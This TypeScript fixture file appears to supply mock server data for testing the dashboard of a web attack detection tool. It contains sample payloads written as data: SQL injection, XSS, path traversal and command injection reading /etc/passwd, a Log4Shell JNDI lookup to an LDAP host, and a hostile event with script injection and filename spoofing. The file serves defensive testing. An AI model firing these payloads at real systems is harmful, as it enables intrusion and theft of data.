/** Invented answers of the server, hostile where an attacker could write. */
import type {
  Campaign,
  Decision,
  Event,
  EventDetail,
  Explanation,
  Me,
  Overview,
  PolicyState,
  Replay,
  Status,
} from "../api/types";

export const NOW = Date.UTC(2026, 4, 12, 9, 30, 0);
export const MODEL = { name: "fields", version: "1.0.0", hash: "0a1b2c3d4e5f" };

export const ME: Me = {
  name: "admin",
  role: "operator",
  csrf: "token-of-the-session",
  address: "127.0.0.1",
  version: "0.1.0",
  mode: "observe",
};

export const STATUS: Status = {
  mode: "observe",
  version: "0.1.0",
  model: MODEL,
  threshold: 0.8,
  started: NOW - 3_600_000,
  now: NOW,
  events: 1234,
  per_minute: 98,
  active_decisions: 1,
  refused: 0,
  unchecked: 0,
  unchecked_late: 0,
  unchecked_last: null,
  sources: [{ name: "demo shop", state: "running", last_event: NOW, detail: null }],
  shop_url: "http://127.0.0.1:8080",
};

const ATTACKS: [string, string, string][] = [
  ["sqli", "/search?q=%27%20OR%201=1%20--", "query:q"],
  ["xss", "/search?q=<script>alert(document.domain)</script>", "query:q"],
  ["path_traversal", "/files/..%2f..%2f..%2fetc/passwd", "path"],
  ["cmdi", "/ping?host=127.0.0.1;cat%20/etc/passwd", "query:host"],
  ["log4shell", "/login?user=$" + "{jndi:ldap://192.0.2.66/a}", "query:user"],
];

export function makeEvent(id: number, changes: Partial<Event> = {}): Event {
  const [category, target, field] = ATTACKS[id % ATTACKS.length] ?? ["sqli", "/", "path"];
  return {
    id,
    time: NOW - (1000 - id) * 7000,
    source: "demo shop",
    client: `203.0.113.${id % 40}`,
    country: ["NL", "DE", "BR", null][id % 4] ?? null,
    session: id % 3 ? "s-5f2c" : null,
    method: "GET",
    target,
    endpoint: target.split("?")[0] ?? "/",
    status: 200,
    score: 0.9 + (id % 10) / 100,
    threshold: 0.8,
    action: "flag",
    category,
    field,
    note: null,
    truth: "malicious",
    label: null,
    campaign: 3,
    blocked: false,
    model: MODEL,
    ...changes,
  };
}

export const HOSTILE_EVENT = makeEvent(77, {
  method: "GET",
  target: "/search?q=<img src=x onerror=\"document.title='owned'\">\u202egpj.exe\u0000",
  client: "203.0.113.9<script>document.title='owned'</script>",
  category: "xss",
});

export const DETAIL: EventDetail = {
  event: makeEvent(900),
  wire: "GET /search?q=%27%20OR%201=1%20-- HTTP/1.1\nHost: shop.example\nUser-Agent: curl/8\nCookie: session=[masked]\n\n",
  entry: {},
  fields: [
    { name: "path", raw: "/search", decoded: "/search", flagged: false },
    { name: "query:q", raw: "%27%20OR%201=1%20--", decoded: "' OR 1=1 --", flagged: true },
  ],
  reasons: [],
  masked: ["cookie:session"],
  notes: [{ id: 1, time: NOW, person: "admin", text: "Seen before." }],
  labels: [],
  decision: null,
  user_agent: "curl/8",
};

export const EXPLANATION: Explanation = {
  score: 0.991,
  stored_score: 0.991,
  same: true,
  threshold: 0.8,
  category: "sqli",
  model: MODEL,
  reasons: [
    { field: "query:q", value: "' OR 1=1 --", start: 0, end: 8, weight: 3.1 },
    { field: "query:q", value: "' OR 1=1 --", start: 8, end: 11, weight: 1.2 },
  ],
  counterfactual: { field: "query:q", removed: "' OR 1=1 --", score: 0.02, text: "" },
};

export const OVERVIEW: Overview = {
  start: NOW - 3_600_000,
  end: NOW,
  step: 60_000,
  totals: { total: 6000, flagged: 600, blocked: 12, labelled: 4 },
  series: Array.from({ length: 60 }, (_, i) => ({
    time: NOW - (60 - i) * 60_000,
    total: 80 + ((i * 37) % 41),
    flagged: (i * 13) % 21,
    blocked: 0,
  })),
  categories: [
    { category: "sqli", count: 310 },
    { category: "xss", count: 150 },
    { category: "path_traversal", count: 90 },
    { category: "cmdi", count: 50 },
  ],
  endpoints: [
    { value: "/search", total: 2100, flagged: 320, country: null, blocked: false },
    { value: "/login", total: 800, flagged: 140, country: null, blocked: false },
  ],
  clients: [
    { value: "203.0.113.9", total: 300, flagged: 290, country: "NL", blocked: true },
    { value: "198.51.100.23", total: 120, flagged: 90, country: "DE", blocked: false },
  ],
  countries: [
    { value: "NL", total: 900, flagged: 300, country: null, blocked: false },
    { value: "DE", total: 700, flagged: 100, country: null, blocked: false },
  ],
  latency: { count: 6000, p50_us: 84.2, p95_us: 210, p99_us: 1320 },
  complete: true,
};

export const DECISION: Decision = {
  id: 5,
  kind: "address",
  value: "203.0.113.20",
  reason: "SQL injection (event 900)",
  person: "admin",
  created: NOW,
  expires: NOW + 3_600_000,
  active: true,
  undone: null,
  undone_by: null,
  event: 900,
};

export const CAMPAIGN: Campaign = {
  id: 3,
  client: "203.0.113.9",
  country: "NL",
  category: "sqli",
  first: NOW - 600_000,
  last: NOW,
  count: 42,
  max_score: 0.999,
  endpoints: ["/search"],
  sample: makeEvent(900),
  blocked: false,
};

export const POLICY: PolicyState = {
  mode: "observe",
  threshold: null,
  model_threshold: 0.8,
  effective: 0.8,
  thresholds: [],
  budget_per_day: null,
  revision: "r1",
  armed_replay: null,
  can_arm: false,
  cannot_arm_because: "no replay of the policy in force",
};

export const REPLAY: Replay = {
  id: 11,
  created: NOW,
  person: "admin",
  policy: { threshold: 0.9, thresholds: [] },
  mode: "block",
  start: NOW - 7 * 86_400_000,
  end: NOW,
  events: 120_000,
  changed: 7,
  changes: [{ before: "flag", after: "allow", count: 7 }],
  flagged_before: 600,
  flagged_after: 593,
  normal_stopped: 0,
  attacks_missed: 2,
  milliseconds: 180,
  matches_policy: false,
};
